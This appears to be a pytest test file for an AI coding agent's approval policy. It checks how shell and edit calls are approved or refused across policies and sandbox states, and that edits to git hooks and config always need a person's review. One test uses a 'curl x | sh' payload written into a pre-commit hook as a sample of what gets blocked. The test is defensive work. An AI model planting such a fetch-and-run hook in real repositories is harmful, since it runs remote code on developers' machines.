"""Who approves a command or an edit once there is a sandbox (issue 22; ``tools/policy.py``).

The policy matrix for ``shell``/``python`` — ask, auto-edit, auto, read-only × sandbox
active, unavailable, off × a person to ask or nobody (headless) — and the protected paths
(``.git/config``, ``.git/hooks/``, ``.git/info/``, ``.frontier/``), which every edit tool
changes only after a person's review, under every policy. The sandboxes here are built,
not probed, so these tests run everywhere; ``test_sandbox_escalation.py`` runs real ones.
"""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from frontier.app.agent.approvals import ApprovalDesk
from frontier.app.events import ToolCall
from frontier.app.record import replace
from frontier.tools.boundary import ToolBoundary
from frontier.tools.contract import Decision, FilePreview, Preview, ToolSpec
from frontier.tools.policy import PolicyApprover, is_protected
from frontier.tools.registry import default_registry
from frontier.tools.sandbox import Sandbox, SandboxSettings

SHELL = ToolSpec("shell", "", {}, sequential=True, mutates=True, kind="exec")
PYTHON = ToolSpec("python", "", {}, sequential=True, mutates=True, kind="exec")
RUN = Preview("command", command="make test", summary="shell: make test")

NOBODY = ApprovalDesk(lambda event: None, interactive=False)
"""A session's desk with nobody to answer it (headless without a terminal)."""


def active() -> Sandbox:
    return Sandbox(SandboxSettings(), bwrap="/usr/bin/bwrap")


def unavailable() -> Sandbox:
    return Sandbox(SandboxSettings(), unavailable="bwrap not found (apt install bubblewrap)")


def off() -> Sandbox:
    return Sandbox(SandboxSettings(mode="off"))


SANDBOXES = {"active": active, "unavailable": unavailable, "off": off, "none": lambda: None}


class Person:
    """An interactive approver that records what it was shown and answers ``answer``."""

    def __init__(self, answer: bool = True) -> None:
        self.answer = answer
        self.seen: list[tuple[str, Preview]] = []

    async def approve(self, call: ToolCall, spec: ToolSpec, preview: Preview) -> Decision:
        self.seen.append((call.name, preview))
        return Decision(self.answer, "" if self.answer else "not now")


class AlwaysRule:
    """Rules that match every call (as a broad "always allow" would)."""

    class _Rule:
        def describe(self) -> str:
            return "everything"

    def match(self, call: ToolCall, spec: ToolSpec, preview: Preview) -> Any:
        return self._Rule()


def decide(approver: PolicyApprover, spec: ToolSpec, preview: Preview) -> Decision:
    return asyncio.run(approver.approve(ToolCall("c1", spec.name, {}), spec, preview))


# ------------------------------------------------------------------ exec: the matrix

# (policy, sandbox) -> with a person: "approved" | "asked" | "denied"; headless: the same
# but "asked" becomes a refusal
EXPECTED = {
    ("ask", "active"): "asked",
    ("ask", "unavailable"): "asked",
    ("ask", "off"): "asked",
    ("ask", "none"): "asked",
    ("auto-edit", "active"): "approved",
    ("auto-edit", "unavailable"): "asked",
    ("auto-edit", "off"): "asked",
    ("auto-edit", "none"): "asked",
    ("auto", "active"): "approved",
    ("auto", "unavailable"): "asked",
    ("auto", "off"): "approved",
    ("auto", "none"): "approved",
    ("read-only", "active"): "denied",
    ("read-only", "unavailable"): "denied",
    ("read-only", "off"): "denied",
    ("read-only", "none"): "denied",
}


@pytest.mark.parametrize("spec", [SHELL, PYTHON], ids=["shell", "python"])
@pytest.mark.parametrize("who", ["person", "nobody", "no-terminal"])
@pytest.mark.parametrize(("policy", "where"), list(EXPECTED), ids="-".join)
def test_exec_matrix(policy: str, where: str, who: str, spec: ToolSpec) -> None:
    person = Person()
    ask = {
        "person": person,
        "nobody": None,
        "no-terminal": NOBODY,
    }[who]
    approver = PolicyApprover(policy, ask, sandbox=SANDBOXES[where]())
    decision = decide(approver, spec, RUN)
    expected = EXPECTED[(policy, where)]
    if expected == "approved":
        assert decision.approved and person.seen == []
        if policy == "auto-edit":
            assert decision.reason == "policy auto-edit, inside the sandbox"
    elif expected == "denied":
        assert not decision.approved and decision.by == "policy read-only"
        assert person.seen == []
    elif who == "person":
        assert decision.approved and person.seen == [(spec.name, RUN)]
    else:
        assert not decision.approved
        if where == "unavailable":
            assert "the sandbox is unavailable (bwrap not found" in decision.reason
            assert "--sandbox off" in decision.reason
        elif policy == "auto-edit" and where != "unavailable" and who == "nobody":
            assert "--approval auto" in decision.reason


def test_an_unavailable_sandbox_asks_even_with_an_always_allow_rule() -> None:
    person = Person()
    approver = PolicyApprover("auto-edit", person, AlwaysRule(), sandbox=unavailable())  # type: ignore[arg-type]
    assert decide(approver, SHELL, RUN).approved and len(person.seen) == 1
    headless = PolicyApprover("auto-edit", None, AlwaysRule(), sandbox=unavailable())  # type: ignore[arg-type]
    assert not decide(headless, SHELL, RUN).approved


def test_sandbox_off_keeps_the_old_behaviour() -> None:
    """``--sandbox off``: exactly the policies as they were — rules approve, auto-edit asks."""
    for sandbox in (off(), None):
        rules = PolicyApprover("ask", None, AlwaysRule(), sandbox=sandbox)  # type: ignore[arg-type]
        assert decide(rules, SHELL, RUN).reason == "always allowed: everything"
        headless = PolicyApprover("auto-edit", None, sandbox=sandbox)
        denied = decide(headless, SHELL, RUN)
        assert not denied.approved and denied.reason.endswith("allow it with --approval auto")


def test_reads_never_ask() -> None:
    read = ToolSpec("read", "", {}, kind="read")
    approver = PolicyApprover("ask", None, sandbox=unavailable())
    assert decide(approver, read, Preview("none")).approved


# ------------------------------------------------------------------ protected paths

EDIT_TOOLS = ["write", "replace", "multi", "apply_patch", "undo"]


def diff(path: str, moved_from: str | None = None) -> Preview:
    file = FilePreview(path, "old\n", "new\n", "-old\n+new\n", "a", "b", moved_from=moved_from)
    return Preview("diff", (file,), summary=f"edit {path}")


@pytest.mark.parametrize(
    "path",
    [
        ".git/config",
        ".git/hooks/pre-commit",
        ".git/info/attributes",
        ".frontier/instructions.md",
        "./.git/config",
        "src/../.git/hooks/post-checkout",
        ".git//info/exclude",
        ".GIT/Config",
        "vendor/lib/.git/hooks/pre-commit",
    ],
)
def test_protected_paths(path: str) -> None:
    assert is_protected(path)


@pytest.mark.parametrize(
    "path", [".gitignore", ".github/workflows/ci.yml", "git/config", "src/hooks/x", ".gitmodules"]
)
def test_not_protected(path: str) -> None:
    assert not is_protected(path)


@pytest.mark.parametrize("tool", EDIT_TOOLS)
@pytest.mark.parametrize("policy", ["auto", "auto-edit", "ask"])
def test_a_protected_path_is_reviewed_under_every_policy(tool: str, policy: str) -> None:
    spec = ToolSpec(tool, "", {}, mutates=True, kind="edit")
    preview = diff(".git/hooks/pre-commit")
    person = Person()
    rules = AlwaysRule()
    approver = PolicyApprover(policy, person, rules, sandbox=active())  # type: ignore[arg-type]
    assert decide(approver, spec, preview).approved
    named = replace(preview, protected=(".git/hooks/pre-commit",))  # the review says so
    assert person.seen == [(tool, named)]
    person.answer = False
    assert not decide(approver, spec, preview).approved  # the person's no stands


@pytest.mark.parametrize("tool", EDIT_TOOLS)
@pytest.mark.parametrize("policy", ["auto", "auto-edit"])
@pytest.mark.parametrize("ask", [None, NOBODY], ids=["none", "no-terminal"])
def test_a_protected_path_is_refused_headless(tool: str, policy: str, ask: Any) -> None:
    spec = ToolSpec(tool, "", {}, mutates=True, kind="edit")
    approver = PolicyApprover(policy, ask, AlwaysRule(), sandbox=active())  # type: ignore[arg-type]
    decision = decide(approver, spec, diff("README.md", moved_from=".frontier/instructions.md"))
    assert not decision.approved
    assert decision.reason.startswith(
        ".frontier/instructions.md is a protected path (git runs what it says): it is "
        "changed only after a person reviews it"
    )


def test_other_edits_keep_their_policy() -> None:
    spec = ToolSpec("write", "", {}, mutates=True, kind="edit")
    assert decide(PolicyApprover("auto-edit", None), spec, diff("src/a.py")).approved
    read_only = decide(PolicyApprover("read-only", Person()), spec, diff(".git/config"))
    assert not read_only.approved and read_only.by == "policy read-only"


def test_a_headless_write_to_a_hook_is_not_written(tmp_path: Path) -> None:
    """Through a real boundary and the real write tool, under ``auto``."""
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    boundary = ToolBoundary(
        default_registry(),
        tmp_path,
        PolicyApprover("auto", None, sandbox=active()),
        None,
    )
    call = ToolCall("w1", "write", {"path": ".git/hooks/pre-commit", "content": "curl x | sh\n"})
    result = asyncio.run(boundary.run(call))
    assert result.kind == "denied" and "is a protected path" in result.output
    assert not (tmp_path / ".git" / "hooks" / "pre-commit").exists()


# ------------------------------------------------------------------ the preview says where


@pytest.mark.parametrize(
    ("where", "label"), [("active", "workspace-write · net off"), ("off", None)]
)
def test_the_command_preview_says_where_it_runs(
    tmp_path: Path, where: str, label: str | None
) -> None:
    sandbox = SANDBOXES[where]()
    person = Person(answer=False)
    boundary = ToolBoundary(
        default_registry(),
        tmp_path,
        PolicyApprover("ask", person, sandbox=sandbox),
        None,
        sandbox=sandbox,
    )
    result = asyncio.run(boundary.run(ToolCall("c1", "shell", {"command": "true"})))
    assert result.kind == "denied"
    [(_, shown)] = person.seen
    assert shown.kind == "command" and shown.command == "true"
    assert shown.sandbox == label and shown.escalation is None
